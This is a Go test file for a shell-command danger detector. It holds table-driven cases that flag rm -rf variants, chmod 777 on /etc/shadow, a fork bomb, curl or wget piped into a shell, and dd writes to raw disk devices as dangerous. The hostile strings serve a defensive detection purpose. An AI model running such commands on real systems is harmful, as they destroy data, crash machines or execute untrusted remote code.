package shell

import "testing"

func TestDangerousPatternsAllDialects(t *testing.T) {
	tests := []struct {
		name      string
		command   string
		dangerous bool
	}{
		{name: "rm -rf", command: "rm -rf /tmp/build", dangerous: true},
		{name: "rm -fr", command: "rm -fr /tmp/build", dangerous: true},
		{name: "rm -r -f", command: "rm -r -f /tmp/build", dangerous: true},
		{name: "rm -f -r", command: "rm -f -r /tmp/build", dangerous: true},
		{name: "chmod 777", command: "chmod 777 /etc/shadow", dangerous: true},
		{name: "chmod recursive", command: "chmod -R 755 /opt", dangerous: true},
		{name: "fork bomb", command: ":(){ :|:& };:", dangerous: true},
		{name: "plain rm", command: "rm file.txt", dangerous: false},
		{name: "rm -f only", command: "rm -f file.txt", dangerous: false},
		{name: "plain chmod", command: "chmod 644 file.txt", dangerous: false},
		{name: "rf inside filename", command: "cat surf.txt", dangerous: false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, d := range []Dialect{DialectPosix, DialectCmd, DialectPowerShell} {
				cmd := mustParse(t, tt.command, d)
				if cmd.Dangerous != tt.dangerous {
					t.Errorf("Parse(%q, %v).Dangerous = %v, want %v",
						tt.command, d, cmd.Dangerous, tt.dangerous)
				}
			}
		})
	}
}

// Downloads are only dangerous when combined with a pipe into a shell.
func TestDownloadPipedToShell(t *testing.T) {
	tests := []struct {
		name      string
		command   string
		dangerous bool
	}{
		{name: "curl piped to sh", command: "curl http://x.sh | sh", dangerous: true},
		{name: "curl piped to bash", command: "curl -fsSL http://x.sh | bash", dangerous: true},
		{name: "wget piped to zsh", command: "wget -qO- http://x.sh | zsh", dangerous: true},
		{name: "no space before shell", command: "curl http://x.sh |sh", dangerous: true},
		{name: "download without pipe", command: "curl -o out.sh http://x.sh", dangerous: false},
		{name: "pipe without download", command: "cat script.sh | sh", dangerous: false},
		{name: "curl piped to jq", command: "curl http://api/x | jq .name", dangerous: false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cmd := mustParse(t, tt.command, DialectPosix)
			if cmd.Dangerous != tt.dangerous {
				t.Errorf("Parse(%q).Dangerous = %v, want %v", tt.command, cmd.Dangerous, tt.dangerous)
			}
		})
	}
}

func TestRawDiskWrites(t *testing.T) {
	tests := []struct {
		name      string
		command   string
		dangerous bool
	}{
		{name: "dd to sd device", command: "dd if=img.iso of=/dev/sda", dangerous: true},
		{name: "dd to nvme device", command: "dd if=img.iso of=/dev/nvme0n1", dangerous: true},
		{name: "redirect to hd device", command: "echo x > /dev/hda", dangerous: true},
		{name: "dd to regular file", command: "dd if=/dev/zero of=blank.img bs=1M", dangerous: false},
		{name: "dd read from device", command: "dd if=/dev/sda of=backup.img", dangerous: false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cmd := mustParse(t, tt.command, DialectPosix)
			if cmd.Dangerous != tt.dangerous {
				t.Errorf("Parse(%q).Dangerous = %v, want %v", tt.command, cmd.Dangerous, tt.dangerous)
			}
		})
	}
}

// The shared list is matched case-sensitively; RM -RF is not the rm binary.
func TestSharedPatternsCaseSensitive(t *testing.T) {
	cmd := mustParse(t, "RM -RF /tmp/build", DialectPosix)
	if cmd.Dangerous {
		t.Error("uppercase RM -RF should not match the case-sensitive pattern list")
	}
}

// Danger scanning sees the raw input, so quoting does not hide a pattern.
func TestDangerScanIgnoresQuoting(t *testing.T) {
	cmd := mustParse(t, "echo 'rm -rf /'", DialectPosix)
	if !cmd.Dangerous {
		t.Error("quoted rm -rf should still set Dangerous")
	}
}
